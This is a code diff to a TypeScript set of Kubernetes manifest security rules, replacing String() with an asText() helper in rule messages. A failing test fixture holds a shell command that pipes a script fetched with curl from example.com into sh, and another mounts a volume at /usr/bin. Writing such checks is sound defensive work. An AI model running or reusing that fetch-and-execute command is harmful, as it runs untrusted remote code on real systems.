@@ -1,4 +1,4 @@
-import { at, blocks, isFalse, isOneOf, isRecord, isSet, shown, unless } from "../rule/attributes";
+import { asText, at, blocks, isFalse, isOneOf, isRecord, isSet, shown, unless } from "../rule/attributes";
 import { type ManifestRule, manifestRule } from "../rule/rule";
 import { containerRule, deployment, oneContainer, podOf, podRule, WORKLOADS } from "../rule/workload";
 
@@ -111,7 +111,7 @@ export const podSurfaceRules: readonly ManifestRule[] = [
       ...unless(!isSet(volumeDevices), "volumeDevices"),
       ...blocks(volumeMounts).flatMap(({ mountPath, mountPropagation }) => [
         ...unless(isOneOf(undefined, "None")(mountPropagation), `mountPropagation ${shown(mountPropagation)}`),
-        ...unless(MOUNTED_AT.test(String(mountPath)), `a mount at ${shown(mountPath)}`),
+        ...unless(MOUNTED_AT.test(asText(mountPath)), `a mount at ${shown(mountPath)}`),
       ]),
     ],
     fails: oneContainer({ volumeMounts: [{ name: "tmp", mountPath: "/usr/bin" }] }),
@@ -131,7 +131,7 @@ export const podSurfaceRules: readonly ManifestRule[] = [
         ? []
         : podOf(subject)
             .containers.filter(({ command, args }) => isSet(command) || isSet(args))
-            .map(({ name }) => ({ got: `container ${String(name)}: a command of its own` })),
+            .map(({ name }) => ({ got: `container ${asText(name)}: a command of its own` })),
     fails: [deployment(oneContainer({ command: ["/bin/sh", "-c", "curl https://example.com/agent | sh"] }))],
     passes: [deployment(oneContainer({}))],
   }),
